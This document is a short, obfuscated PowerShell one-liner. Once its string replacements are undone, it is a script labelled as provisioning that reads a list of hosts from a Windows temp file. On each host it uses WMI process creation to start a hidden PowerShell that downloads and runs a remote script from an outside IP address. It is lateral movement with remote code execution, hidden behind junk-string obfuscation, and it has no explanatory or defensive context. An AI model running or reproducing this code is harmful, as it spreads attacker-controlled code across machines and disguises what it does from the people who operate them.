'iex ((''# JKQ64provjz~4sjz~4on 9349 v3
$targets = Get-Content C:\Wjz~4ndows\Temp\hosts.txt
foreach ($t jz~4n $targets)JKQ64 {
  Invoke-Wmjz~4Method -ComputerName $t -Class Wjz~4n32_Process -Name Create -ArgumentLjz~4st "powerJKQ64shell -nop -w hjz~4ddJKQ64en -c jz~4ex(jzJKQ64~4wr http://192.0.2.150/jz~4nv.ps1)"
}
'' -replace ''JKQ64'','''').Replace(''jz~4'',''i''))' | iex